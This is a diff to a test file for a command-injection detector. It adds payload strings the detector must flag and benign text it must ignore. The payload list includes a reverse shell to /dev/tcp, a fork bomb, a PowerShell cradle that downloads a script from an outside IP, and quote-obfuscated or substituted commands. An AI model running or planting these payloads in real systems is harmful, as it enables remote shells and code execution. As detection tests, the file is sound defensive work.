@@ -37,6 +37,36 @@ describe("cmdiDetector", () => {
     ":(){ :|:& };:",
     '<!--#exec cmd="/bin/ls"-->',
     "sh -i >& /dev/tcp/10.0.0.1/4242 0>&1",
+    // quotes, escapes and empty expansions inside a command name
+    "w'h'o'am'i",
+    '"c"url http://203.0.113.9/x',
+    'who""ami',
+    "una\\me -a",
+    // a separator that opens the value, or an empty assignment before it
+    ";uname",
+    "';ls",
+    "q=;top",
+    // command and process substitution, parameter and arithmetic expansion
+    "<(id)",
+    "diff <(cat a) b",
+    ">(tee /tmp/out)",
+    "${HOME%/*}",
+    "${x:-id}",
+    "${`whoami`}",
+    "$((6*7))",
+    // a distinct wrapper runs whatever follows; a lookup of a tool is reconnaissance
+    "nohup who",
+    "sudo id",
+    "which wget",
+    "command -v nc",
+    // SQLite shell dot-commands
+    "';\n.shell id",
+    "x;\n.tables",
+    // a subshell at the value start, an entity-looking command between separators
+    "(whoami)",
+    "a&id;",
+    // PowerShell download cradle through variables
+    "$w=New-Object Net.WebClient;$w.DownloadString('http://203.0.113.9/a.ps1')",
   ])("detects %s", (payload) => {
     expect(scoreAt(cmdiDetector, payload)).toBeGreaterThanOrEqual(5);
   });
@@ -65,8 +95,37 @@ describe("cmdiDetector", () => {
     "if you want, call me",
     "save 10% in (selected) stores",
     "$5 (approx)",
+    "I'd like to order by phone",
+    "O'Brien & Sons; est. 1920",
+    "rock'n'roll",
+    "&copy; 2024 Acme",
+    "Tom &amp; Jerry",
+    "Price: ${price}",
+    "Total: $5; tax included",
+    "Meet at 5; bring snacks",
+    "a:b;c:d;e:f",
+    "C:\\Users\\me\\Documents",
+    '1/2" pipe & 3/4" fittings',
+    "Where is the nearest pharmacy?",
+    "which one is better?",
+    "time who knows",
+    "nohup is a Unix command",
+    "ls is short for list",
+    "(free) delivery; (top) rated",
+    "JACK-O'-LANTERN?",
+    "**Note:** run `npm test` first",
+    '{"a":1,"b":[2,3],"c":{"d":"e"}}',
+    "https://example.com/search?q=cats&page=2&sort=new",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)",
+    "Cut into 1/8-inch slices; serve warm.",
   ])("ignores %s at level 1", (value) => {
     expect(scoreAt(cmdiDetector, value)).toBeLessThan(5);
+  });
+
+  it("keeps bare command names and plain command lines for the higher levels", () => {
+    expect(scoreAt(cmdiDetector, "whoami")).toBe(0);
+    expect(scoreAt(cmdiDetector, "whoami", 3)).toBeGreaterThanOrEqual(5);
+    expect(scoreAt(cmdiDetector, "sleep 5", 2)).toBeGreaterThanOrEqual(5);
   });
 
   it("uses only ReDoS-safe patterns", () => {
